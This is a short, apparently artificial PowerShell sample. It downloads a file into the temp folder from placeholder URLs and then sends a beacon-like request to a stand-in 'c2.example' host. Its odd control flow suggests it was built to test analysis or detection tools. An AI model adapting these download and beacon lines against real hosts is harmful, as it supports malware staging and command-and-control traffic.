if (Test-Path $env:TEMP\x) { $u = 'http://one.example/'; exit } else { $u = 'http://two.example/' }
Invoke-WebRequest $u -OutFile "$env:TEMP\y"
$n = 0
while ($n -lt 3) { $n++ }
Invoke-WebRequest "http://c2.example/$n$(5/2)"
